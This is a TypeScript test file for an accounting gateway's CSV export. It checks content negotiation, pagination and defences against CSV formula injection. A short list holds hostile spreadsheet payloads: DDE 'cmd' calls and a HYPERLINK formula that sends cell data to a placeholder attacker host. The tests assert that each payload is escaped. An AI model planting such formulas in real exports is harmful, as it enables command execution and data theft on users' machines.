// Tables as CSV: what comes out is what went in, and no spreadsheet runs any of it (T49).
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import type { Schemas } from '../../sdk/src/index.ts'
import { disbursedLoan, factsOf, staffOf } from '../../test/support/fixtures.ts'
import { startGateway, type TestGateway } from '../../test/support/gateway.ts'
import { csvOf } from './csv.ts'

let gateway: TestGateway
let bearer: string

before(async () => {
  gateway = await startGateway()
  bearer = `Bearer ${await gateway.token('himal', factsOf('himal').staff.accountant)}`
})
after(() => gateway.stop())

const read = (text: string): Record<string, string>[] => parse(text, { columns: true, record_delimiter: '\r\n' })
const account = (name: string): Schemas['TrialBalance']['accounts'][number] => {
  return { code: '1000', name, type: 'asset', currency: 'INR', debit: '0.00', credit: '12.50' }
}
const tableOf = (names: readonly string[]) => {
  const text = csvOf('getTrialBalance', { on: '2026-02-15', totals: [], accounts: names.map(account) })
  return read(text as string)
}

/** First characters that spreadsheets take for the beginning of a formula (OWASP, CSV Injection). */
const running = ['=', '+', '-', '@', '\t', '\r']

const hostile: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?"&A1,"Open")',
  '+1+cmd|x!A',
  '-2+3+cmd|x!A',
  '@SUM(1+9)*cmd|x!A',
  '\t=1+1',
  '\r=1+1',
]
for (const name of hostile) {
  test(`${JSON.stringify(name)} is a text in a spreadsheet`, () => {
    assert.deepEqual(
      tableOf([name]).map((row) => row.name),
      [`'${name}`],
    )
  })
}

test('what would end a line or a cell for some reader stands between quotes', () => {
  const accounts = ['a\nb', 'a\rb', 'a\tb', 'a;b', 'a,b'].map(account)
  const text = csvOf('getTrialBalance', { on: '2026-02-15', totals: [], accounts })
  for (const { name } of accounts) assert.ok(text?.includes(`,"${name}",`), JSON.stringify(name))
})

test('whatever the texts are, a reader finds them again, those that would run behind an apostrophe', () => {
  const piece = fc.constantFrom(...running, '"', "'", ',', ';', '\n', '\r\n', 'a', 'é', '=1')
  const name = fc.array(piece, { minLength: 1, maxLength: 8 }).map((pieces) => pieces.join(''))
  fc.assert(
    fc.property(fc.array(name, { maxLength: 5 }), (names) => {
      const expected = names.map((each) => (running.includes(each[0] as string) ? `'${each}` : each))
      const rows = tableOf(names)
      assert.deepEqual(
        rows.map((row) => row.name),
        expected,
      )
      for (const row of rows) assert.deepEqual([row.code, row.debit, row.credit], ['1000', '0.00', '12.50'])
    }),
    { numRuns: 300, seed: 20_260_115 },
  )
})

async function get(path: string, accept?: string): Promise<Response> {
  const headers = { Authorization: bearer, ...(accept === undefined ? {} : { Accept: accept }) }
  return fetch(`${gateway.url}${path}`, { headers })
}

test('the trial balance comes as a table to whoever asks for one, and as JSON to everybody else', async () => {
  await disbursedLoan(gateway, { tenant: 'himal' })
  const json = await staffOf(gateway, 'himal').accountant.getTrialBalance()
  const reply = await get('/v1/trial-balance', 'text/csv')
  assert.equal(reply.status, 200)
  assert.equal(reply.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
  assert.equal(reply.headers.get('content-disposition'), 'attachment')
  assert.match(reply.headers.get('vary') ?? '', /Accept/)
  const { on, accounts } = json
  assert.deepEqual(
    read(await reply.text()),
    accounts.map((each) => ({ on, ...each })),
  )
  for (const accept of [undefined, '*/*', 'application/json', 'text/csv;q=0.5, application/json', 'text/html']) {
    const other = await get('/v1/trial-balance', accept)
    assert.deepEqual([other.status, await other.json()], [200, { ...json }], `Accept: ${accept}`)
  }
})

test('the journal comes as a table, page after page: a row a line, nothing lost', async () => {
  const rows: Record<string, string>[] = []
  let path: string | undefined = '/v1/journal-entries?limit=1'
  while (path !== undefined) {
    const reply = await get(path, 'text/csv')
    rows.push(...read(await reply.text()))
    const cursor = reply.headers.get('next-cursor')
    path = cursor === null ? undefined : `/v1/journal-entries?limit=1&cursor=${encodeURIComponent(cursor)}`
  }
  const { data } = await staffOf(gateway, 'himal').accountant.listJournalEntries({ query: { limit: 100 } })
  assert.ok(data.length > 0)
  const lines = data.flatMap(({ lines: each, ...entry }) => each.map((line) => ({ ...entry, ...line })))
  assert.deepEqual(
    rows,
    lines.map((line) => Object.fromEntries(Object.entries(line).map(([key, value]) => [key, value ?? '']))),
  )
})

test('an error is problem+json, whatever was asked for; what is no table stays JSON', async () => {
  const refused = await get('/v1/trial-balance?on=yesterday', 'text/csv')
  assert.equal(refused.status, 400)
  assert.match(refused.headers.get('content-type') ?? '', /^application\/problem\+json/)
  const list = await get('/v1/ledger-accounts', 'text/csv')
  assert.match(list.headers.get('content-type') ?? '', /^application\/json/)
})
